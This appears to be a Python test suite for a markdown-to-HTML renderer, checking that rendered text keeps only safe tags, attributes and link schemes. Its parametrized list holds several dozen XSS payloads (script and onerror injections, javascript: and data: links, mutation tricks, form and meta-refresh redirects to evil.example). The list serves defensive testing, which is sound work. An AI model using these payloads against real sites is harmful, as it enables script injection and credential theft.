"""Details on a page: readable, and harmless whoever wrote them."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvals.markdown import FORMATTED_LIMIT, rendered
from tests.effort import effort

TAGS = set(
    "a blockquote br code em hr li ol p pre strong ul h3 h4 h5 h6 table tbody td th thead tr".split()  # noqa: SIM905
)


class Inspector(HTMLParser):
    """What a browser would find: tags and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    found = Inspector(html)
    assert set(found.tags) <= TAGS
    for name, value in found.attributes:
        assert name in {"href", "title", "rel", "class", "start"}
        if name == "href":
            scheme, colon, _ = value.partition(":")
            assert not colon or scheme.lower() in {"http", "https", "mailto"} or scheme[:1] in "/?#."
        if name == "class":
            assert value in {"left", "center", "right"}


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><style><img title='</style><img src onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<style>@import 'http://evil.example/x.css'</style>",
        "<base href=http://evil.example>",
        "<form action=http://evil.example><input name=password></form>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<!--<img src='--><img src=x onerror=alert(1)//'>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert`1`)",
        "[x](  javascript:alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '[x](<http://a.example" onmouseover="alert(1)>)',
        "[x](http://a.example '\" onmouseover=\"alert(1)')",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](http://evil.example/pixel.png)",
        '![<img src=x onerror=alert(1)>](y "<script>alert(1)</script>")',
        "[![x](http://evil.example/pixel.png)](javascript:alert(1))",
        '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
        "`</code><script>alert(1)</script>`",
        "a|b\n-|:-:\n<script>alert(1)</script>|[x](javascript:alert(1))",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\0<script\0>alert(1)</script>",
        "x" * FORMATTED_LIMIT + "<script>alert(1)</script>",
    ],
)
def test_attacks_come_out_as_text(attack: str) -> None:
    """Nothing runs, nothing is loaded, nothing is sent."""
    assert_harmless(rendered(attack))


@effort()
@given(st.text(alphabet="<>\"'`&;:/\\()[]!*_#|-=\n\t ajscriptonerhfmg\0\x01", max_size=200))
def test_any_text_comes_out_harmless(text: str) -> None:
    """Whatever is made of the characters that attacks are made of."""
    assert_harmless(rendered(text))


def test_what_markdown_is_written_for() -> None:
    """Emphasis, code, lists and quotes come out as such."""
    html = rendered("**now** or *later*\n\n> - `rm`\n> - b\n\n1. x\n\n7) y\n\n---\n\n    <tag>")
    found = Inspector(html)
    assert found.tags == "p strong em blockquote ul li code li ol li ol li hr pre code".split()  # noqa: SIM905
    assert ("start", "7") in found.attributes
    assert "&lt;tag&gt;" in html


def test_headings_stay_below_those_of_the_page() -> None:
    """The page's own are h1 and h2; the smallest is h6."""
    html = rendered("# A\n\n## B\n\n##### E\n\nSetext\n===")
    assert Inspector(html).tags == ["h3", "h4", "h6", "h3"]


def test_tables_are_aligned_by_class() -> None:
    """Inline styles would break the page's policy."""
    html = rendered("what|amount|when\n:-|-:|:-:\nrefund|1,240.00|now")
    assert '<td class="right">1,240.00</td>' in html
    assert {name for name, _ in Inspector(html).attributes} == {"class"}


def test_links_give_nothing_away() -> None:
    """A page behind a link learns neither the request's address nor gets hold of the window."""
    html = rendered("[ACME](https://acme.example/o?a=1&b=2 'Order') <a@b.example> https://plain.example")
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert 'href="https://acme.example/o?a=1&amp;b=2"' in html
    assert 'href="mailto:a@b.example"' in html
    assert Inspector(html).tags.count("a") == 2


def test_images_become_their_description() -> None:
    """Loading one would tell its owner who reads the request, and when."""
    assert rendered("![the *dented* box](https://acme.example/box.jpg)") == "<p>the dented box</p>\n"


def test_very_long_text_is_shown_as_written() -> None:
    """Formatting stops at its limit."""
    text = "*a*" * FORMATTED_LIMIT
    assert rendered(text) == f"<pre>{text}</pre>"
